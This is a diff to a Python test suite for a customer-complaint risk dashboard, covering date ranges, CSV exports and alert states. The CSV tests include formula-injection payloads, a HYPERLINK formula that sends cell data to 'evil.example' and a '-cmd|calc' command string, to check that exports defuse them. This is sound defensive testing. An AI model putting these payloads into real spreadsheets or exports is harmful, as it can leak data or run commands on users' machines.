@@ -8,9 +8,14 @@ model. HTML is checked through its tags and attributes, not by eye.
 from __future__ import annotations
 
 import base64
+import csv
 import dataclasses
+import html
+import io
 import json
 import re
+import shutil
+import sqlite3
 from datetime import UTC, datetime
 from html.parser import HTMLParser
 from pathlib import Path
@@ -25,7 +30,8 @@ import serve  # noqa: E402
 from nlp.report import Pseudonymizer  # noqa: E402
 from nlp.risk import DRIVER_KEYS, SCORE_VERSION  # noqa: E402
 from radar import dashboard  # noqa: E402
-from radar.dashboard import views  # noqa: E402
+from radar.dashboard import export, views  # noqa: E402
+from radar.dashboard.daterange import DateRange  # noqa: E402
 from radar.store import open_store  # noqa: E402
 from radar.store.history import (  # noqa: E402
     AlertDelivery,
@@ -41,8 +47,10 @@ from radar.store.history import (  # noqa: E402
 )
 from serve import ServeSettings, create_app  # noqa: E402
 from tests.radar.dashboard.fixtures import (  # noqa: E402
+    ANCHOR,
     MODEL_AFTER,
     MODEL_BEFORE,
+    WEEK,
     WEEKS,
     build_fixture_store,
 )
@@ -194,6 +202,15 @@ def test_brand_page_has_both_charts_with_band_and_model_change(client, fixture, 
     assert changed[0]["text"] == [f"{MODEL_BEFORE} → {MODEL_AFTER}"]
     assert [a["text"] for a in risk["layout"]["annotations"]] == [f"model {MODEL_AFTER}"]
 
+    # Post volume as bars on the right axis; the share on the left one, drawn above them.
+    [bars] = [t for t in risk["data"] if t["type"] == "bar"]
+    assert bars["x"] == share["x"] and bars["y"] == [p.posts for p in history]
+    assert [c[0] for c in bars["customdata"]] == [p.customers for p in history]
+    assert "yaxis" not in bars and risk["layout"]["yaxis"]["side"] == "right"
+    assert {t.get("yaxis") for t in risk["data"] if t["type"] != "bar"} == {"y2"}
+    assert risk["layout"]["yaxis2"]["overlaying"] == "y"
+    assert risk["layout"]["yaxis2"]["tickformat"] == ".0%"
+
     drivers = json.loads(tags.scripts["driver-chart-data"])
     assert drivers["data"] and all(t["stackgroup"] == "drivers" for t in drivers["data"])
     for i, point in enumerate(history):  # the stack adds up to the at-risk share
@@ -237,7 +254,7 @@ def test_brand_page_shows_recent_alerts(client, store):
         for example in alert.payload["examples"]:
             assert example["text"].replace("'", "&#39;") in section
     assert "email: sent after 3 attempts" in section and "webhook: sent" in section
-    assert 'id="alerts"' not in client.get("/brands/Bluebird%20Air").text
+    assert 'id="no-alerts"' not in section
 
 
 def test_theme_filter_keeps_only_customers_with_that_theme(client, fixture, store):
@@ -284,6 +301,280 @@ def test_unknown_theme_is_a_400_page_listing_the_valid_themes(client):
         in response.text
     hrefs = [a["href"] for a in Tags(response.text).having("a")]
     assert all(f"/brands/AcmeTelco?theme={k}" in hrefs for k in DRIVER_KEYS)
+
+
+# --- the date range ------------------------------------------------------------------------------
+
+RANGE = "from=2024-01-08&to=2024-01-21"  # the fixture's second and third weeks
+
+
+def window_starts(weeks) -> list[str]:
+    return [(ANCHOR + w * WEEK).strftime("%Y-%m-%d %H:%M") for w in weeks]
+
+
+@pytest.mark.parametrize(("query", "weeks"), [
+    (RANGE, [1, 2]),
+    ("from=2024-02-01", [4, 5]),  # the window of Jan 29 to Feb 5 overlaps Feb 1
+    ("to=2024-01-01", [0]),
+    ("from=2024-01-10&to=2024-01-10", [1]),  # one day: the window holding it
+    ("from=&to=", list(range(WEEKS))),  # empty form fields: the whole history
+])
+def test_date_range_keeps_the_windows_that_overlap_it(client, store, query, weeks):
+    response = client.get(f"/brands/AcmeTelco?{query}")
+    assert response.status_code == 200
+    tags = Tags(response.text)
+    risk = json.loads(tags.scripts["risk-chart-data"])
+    bars = next(t for t in risk["data"] if t["type"] == "bar")
+    drivers = json.loads(tags.scripts["driver-chart-data"])
+    assert risk["data"][2]["x"] == bars["x"] == window_starts(weeks)
+    assert all(t["x"] == window_starts(weeks) for t in drivers["data"])
+    # The header and the customers are those of the range's latest window.
+    shown = brand_history(store, "AcmeTelco", SCORE_VERSION)[weeks[-1]]
+    assert f"{views.format_utc(shown.window_start)} – {views.format_utc(shown.window_end)}" \
+        in response.text
+    rows = window_customers(store, shown, min_risk=0.5)
+    assert rows and re.findall(r'<span class="pseudonym">([^<]+)</span>', response.text) == \
+        [Pseudonymizer(PSEUDONYM_KEY)(r.customer) for r in rows]
+
+
+def test_overview_shows_each_brands_latest_window_in_the_range(client, store):
+    html = client.get(f"/?{RANGE}").text
+    week3 = {b: brand_history(store, b, SCORE_VERSION)[2] for b in ("AcmeTelco", "Bluebird Air")}
+    order = sorted(week3, key=lambda b: -week3[b].at_risk_share)
+    # Cornershop's only window is the last week: it has none in the range.
+    assert [r["data-brand"] for r in Tags(html).having("tr", "brand-row")] == order
+    for brand, row in zip(order, html.split('class="brand-row"')[1:], strict=True):
+        assert views.percent(week3[brand].at_risk_share) in row
+        assert "2024-01-15 –" in row and "2024-02-" not in row
+    assert "latest window overlapping the days from 2024-01-08 to 2024-01-21" in html
+    last = max(p.computed_at for p in week3.values())
+    assert f"Last update {views.format_utc(last)}" in html
+
+
+def test_a_range_without_windows_says_so(client):
+    page = client.get("/?from=2030-01-01")
+    assert page.status_code == 200 and not Tags(page.text).having("tr", "brand-row")
+    assert ("no brand has a risk window overlapping the days from 2030-01-01 on; the history "
+            "runs from 2024-01-01 to 2024-02-12") in page.text
+    assert {a["name"]: a["value"] for a in Tags(page.text).having("input")} == \
+        {"from": "2030-01-01", "to": ""}  # the form to pick other days is still there
+    brand = client.get("/brands/AcmeTelco?to=2023-12-31")
+    assert brand.status_code == 404
+    assert "AcmeTelco has no risk window overlapping the days up to 2023-12-31" in brand.text
+    hrefs = [a["href"] for a in Tags(brand.text).having("a")]
+    assert "/brands/AcmeTelco" in hrefs and "/?to=2023-12-31" in hrefs
+
+
+def test_the_range_stays_in_the_links_between_pages(client, fixture):
+    overview = Tags(client.get(f"/?{RANGE}").text)
+    hrefs = [a["href"] for a in overview.having("a")]
+    assert "/brands/AcmeTelco?" + RANGE in hrefs and "/brands/Bluebird%20Air?" + RANGE in hrefs
+    assert f"/overview.csv?{RANGE}" in hrefs and "/" in hrefs  # "/": the whole history
+    assert {a["name"]: a["value"] for a in overview.having("input")} == \
+        {"from": "2024-01-08", "to": "2024-01-21"}
+
+    theme = fixture.filter_theme
+    page = Tags(client.get(f"/brands/AcmeTelco?theme={theme}&{RANGE}").text)
+    hrefs = [a["href"] for a in page.having("a")]
+    assert f"/?{RANGE}" in hrefs  # back to the overview over the same days
+    assert f"/brands/AcmeTelco/customers.csv?theme={theme}&{RANGE}" in hrefs
+    assert f"/brands/AcmeTelco?theme={theme}" in hrefs  # the whole history, same theme
+    # Each form carries the other's choice: the range form the theme, the theme form the days.
+    hidden = [(a["name"], a["value"]) for a in page.having("input") if a["type"] == "hidden"]
+    assert hidden == [("theme", theme), ("from", "2024-01-08"), ("to", "2024-01-21")]
+    assert {f["id"]: f["action"] for f in page.having("form")} == \
+        {"range-form": "/brands/AcmeTelco", "theme-form": "/brands/AcmeTelco"}
+
+    unknown = Tags(client.get(f"/brands/AcmeTelco?theme=weather&{RANGE}").text)
+    assert f"/brands/AcmeTelco?theme=billing&{RANGE}" in [a["href"] for a in unknown.having("a")]
+    plain = Tags(client.get("/").text)  # no range, no query strings
+    assert not [a["href"] for a in plain.having("a") if "?" in a["href"]]
+    assert not [a for a in plain.having("input") if a["type"] == "hidden"]
+
+
+@pytest.mark.parametrize(("path", "message"), [
+    ("/?from=2024-13-01",
+     "from=&#39;2024-13-01&#39; is not a date; expected YYYY-MM-DD, e.g. 2024-01-31"),
+    ("/?to=yesterday", "to=&#39;yesterday&#39; is not a date"),
+    ("/brands/AcmeTelco?from=2024-02-01&to=2024-01-01",
+     "from=2024-02-01 is after to=2024-01-01; pick a from on or before the to date"),
+    ("/overview.csv?from=20240108", "from=&#39;20240108&#39; is not a date"),
+    ("/brands/AcmeTelco/customers.csv?to=2024-1-8", "to=&#39;2024-1-8&#39; is not a date"),
+])
+def test_a_bad_date_is_a_400_page_saying_what_is_expected(client, path, message):
+    response = client.get(path)
+    assert response.status_code == 400
+    assert response.headers["content-type"].startswith("text/html")
+    assert "<h1>Invalid date range</h1>" in response.text and message in response.text
+    assert_only_local_assets(response.text)
+
+
+def test_a_bad_date_is_checked_after_sign_in(keyed_client):
+    assert keyed_client.get("/?from=nope").status_code == 401
+    assert keyed_client.get("/?from=nope", headers={"X-API-Key": API_KEY}).status_code == 400
+
+
+def test_the_json_has_no_date_range(client, fixture):
+    body = client.get("/v1/brands?from=2030-01-01&to=nonsense").json()
+    assert [b["brand"] for b in body["brands"]] == list(fixture.brands_by_share)
+
+
+def test_date_range_parsing_and_overlap():
+    assert DateRange.parse(None, " ") == DateRange() and not DateRange().is_set
+    days = DateRange.parse("2024-01-08", "2024-01-21")
+    assert days.params() == {"from": "2024-01-08", "to": "2024-01-21"}
+
+    def week(day: int) -> tuple[datetime, datetime]:
+        return datetime(2024, 1, day, tzinfo=UTC), datetime(2024, 1, day + 7, tzinfo=UTC)
+
+    assert not days.covers(*week(1))  # ends at midnight of the first day: no overlap
+    assert days.covers(*week(2)) and days.covers(*week(21)) and not days.covers(*week(22))
+    with pytest.raises(ValueError, match="to='2024-02-30' is not a date"):
+        DateRange.parse(None, "2024-02-30")
+    assert DateRange.parse(None, "9999-12-31").covers(*week(1))  # no overflow at the end
+
+
+# --- CSV exports ---------------------------------------------------------------------------------
+
+
+def read_csv(response) -> list[dict[str, str]]:
+    assert response.status_code == 200
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    assert response.headers["cache-control"] == "no-store"
+    header, *rows = csv.reader(io.StringIO(response.text, newline=""))
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+def test_overview_csv_is_the_overview_table(client, fixture, store):
+    response = client.get("/overview.csv")
+    assert response.headers["content-disposition"] == \
+        'attachment; filename="complaint-radar_overview.csv"'
+    assert response.text.split("\r\n")[0] == ",".join(export.OVERVIEW_COLUMNS)
+    records = read_csv(response)
+    assert [r["brand"] for r in records] == list(fixture.brands_by_share)
+    for record in records:
+        point = latest(store, record["brand"])
+        for name in ("at_risk_share", "ci_low", "ci_high"):
+            assert float(record[name]) == round(getattr(point, name), 4)
+        assert record["trend"] == fixture.trends[point.brand]
+        assert (int(record["customers"]), int(record["posts"])) == (point.customers, point.posts)
+        assert (record["window_start_utc"], record["window_end_utc"]) == \
+            (point.window_start.strftime("%Y-%m-%d %H:%M"),
+             point.window_end.strftime("%Y-%m-%d %H:%M"))
+        assert (record["model_version"], record["score_version"]) == \
+            (point.model_version, point.score_version)
+        top = sorted(point.drivers, key=lambda k: -point.drivers[k])[:3]
+        assert [record[f"driver_{i}"] for i in (1, 2, 3)] == [views.DRIVER_LABELS[k] for k in top]
+        assert [float(record[f"driver_{i}_share"]) for i in (1, 2, 3)] == \
+            [round(point.drivers[k], 4) for k in top]
+
+    ranged = client.get(f"/overview.csv?{RANGE}")
+    assert ranged.headers["content-disposition"] == \
+        'attachment; filename="complaint-radar_overview_2024-01-08_2024-01-21.csv"'
+    page_order = [r["data-brand"] for r in Tags(client.get(f"/?{RANGE}").text).having("tr")
+                  if r.get("data-brand")]
+    assert [(r["brand"], r["window_start_utc"]) for r in read_csv(ranged)] == \
+        [(b, "2024-01-15 00:00") for b in page_order]
+
+
+def test_customers_csv_is_the_pages_customers_table(client, fixture, store):
+    response = client.get("/brands/AcmeTelco/customers.csv")
+    assert response.headers["content-disposition"] == \
+        'attachment; filename="complaint-radar_AcmeTelco_customers_2024-02-05.csv"'
+    records = read_csv(response)
+    assert tuple(records[0]) == export.CUSTOMER_COLUMNS
+    page = client.get("/brands/AcmeTelco").text
+    # The same customers in the same order, one row per post, texts as the page shows them.
+    assert list(dict.fromkeys(r["customer"] for r in records)) == \
+        re.findall(r'<span class="pseudonym">([^<]+)</span>', page)
+    shown_texts = [html.unescape(t) for t in re.findall(r'<p class="text">([^<]*)</p>', page)]
+    assert [r["post_text"] for r in records] == [export.spreadsheet_safe(t) for t in shown_texts]
+    rows = window_customers(store, latest(store, "AcmeTelco"), min_risk=0.5)
+    assert [r["post_url"] for r in records] == [p.url or "" for row in rows for p in row.posts]
+    assert {r["window_start_utc"] for r in records} == {"2024-02-05 00:00"}
+    text = response.text.casefold()
+    for author in fixture.authors:  # pseudonyms only, and handles masked in the texts
+        assert author.casefold() not in text
+    assert "@acmetelco" not in text and "pics.example.net" not in text
+    # Texts that start with a masked handle ("@user ...") are defused like any formula.
+    assert any(r["post_text"].startswith("'@user") for r in records)
+    assert not [cell for r in records for cell in r.values()
+                if cell.startswith(export.FORMULA_STARTS)]
+
+    theme = fixture.filter_theme
+    filtered = read_csv(client.get(f"/brands/AcmeTelco/customers.csv?theme={theme}"))
+    assert list(dict.fromkeys(r["customer"] for r in filtered)) == re.findall(
+        r'<span class="pseudonym">([^<]+)</span>',
+        client.get(f"/brands/AcmeTelco?theme={theme}").text)
+    ranged = read_csv(client.get(f"/brands/AcmeTelco/customers.csv?{RANGE}"))
+    assert ranged and {r["window_start_utc"] for r in ranged} == {"2024-01-15 00:00"}
+    assert client.get("/brands/Nonesuch/customers.csv").status_code == 404
+
+
+def test_csv_exports_need_the_key_when_one_is_set(keyed_client):
+    for path in ("/overview.csv", "/brands/AcmeTelco/customers.csv"):
+        assert keyed_client.get(path).status_code == 401
+        assert keyed_client.get(path, headers=basic("me", API_KEY)).status_code == 200
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_formula_cells_are_neutralised(text):
+    assert export.spreadsheet_safe(text) == "'" + text
+    [_, row] = csv.reader(io.StringIO(export.write_csv(["cell"], [[text]]), newline=""))
+    assert row == ["'" + text]
+
+
+def test_plain_cells_and_numbers_are_left_alone():
+    for value in ("plain", "", "'quoted", " =spaced", "a=b", -0.25, 3):
+        assert export.spreadsheet_safe(value) == value
+
+
+def test_customers_csv_defuses_formulas_in_posts_and_brand_names():
+    post = StoredPost(source="social", post_id="1", created_at=None, url=None,
+                      text='=HYPERLINK("https://evil.example/?"&A1,"click") @mallory')
+    row = WindowCustomer(customer="@mallory", risk=0.9, drivers={"churn_intent": 1.0},
+                         posts=(post,))
+    customers = views.customer_views([row], Pseudonymizer("k"))
+    text = export.customers_csv(views.brand_row(_point(brand="-cmd|calc")), customers)
+    [record] = csv.DictReader(io.StringIO(text, newline=""))
+    assert record["brand"] == "'-cmd|calc"
+    assert record["post_text"].startswith("'=HYPERLINK(") and "@mallory" not in text
+    assert record["customer"] == Pseudonymizer("k")("@mallory")
+
+
+# --- alerts: the empty state ---------------------------------------------------------------------
+
+
+def alerts_section(html: str) -> str:
+    return html[html.index('id="alerts"'):html.index('id="customers"')]
+
+
+def test_brand_pages_say_when_there_are_no_alerts(client, store):
+    bluebird = alerts_section(client.get("/brands/Bluebird%20Air").text)
+    assert not alert_payloads(store, "Bluebird Air")
+    assert 'id="no-alerts"' in bluebird and '<li class="alert">' not in bluebird
+    assert "No alerts for Bluebird Air: the monitor has flagged no rise in risk" in bluebird
+    # AcmeTelco's alerts are on its last window: a range before it has none, one with it all.
+    before = alerts_section(client.get("/brands/AcmeTelco?to=2024-01-21").text)
+    assert "No alerts for AcmeTelco over the days up to 2024-01-21" in before
+    assert '<li class="alert">' not in before
+    with_it = alerts_section(client.get("/brands/AcmeTelco?from=2024-02-01").text)
+    assert with_it.count('<li class="alert">') == len(alert_payloads(store, "AcmeTelco"))
+
+
+def test_a_store_without_alerts_says_so_on_every_brand_page(fixture, tmp_path):
+    db_path = tmp_path / "radar.db"
+    shutil.copy(fixture.db_path, db_path)
+    db = sqlite3.connect(db_path)
+    with db:
+        db.execute("DELETE FROM alert_deliveries")
+        db.execute("DELETE FROM alerts")
+    db.close()
+    settings = ServeSettings(model_dir=tmp_path / "no-model", db_path=db_path)
+    with _client(settings) as c:
+        for brand in fixture.brands_by_share:
+            section = alerts_section(c.get(views.brand_href(brand)).text)
+            assert f"No alerts for {brand}:" in section and '<li class="alert">' not in section
 
 
 # --- JSON ----------------------------------------------------------------------------------------
@@ -440,7 +731,8 @@ def test_own_static_files_are_served(client):
 
 def test_no_page_loads_anything_from_elsewhere(client, fixture):
     pages = ["/", "/brands/AcmeTelco", f"/brands/AcmeTelco?theme={fixture.filter_theme}",
-             "/brands/Nonesuch", "/brands/AcmeTelco?theme=weather"]
+             "/brands/Nonesuch", "/brands/AcmeTelco?theme=weather", f"/?{RANGE}",
+             f"/brands/AcmeTelco?{RANGE}", "/brands/AcmeTelco?from=2030-01-01"]
     for path in pages:
         html = client.get(path).text
         assert_only_local_assets(html)
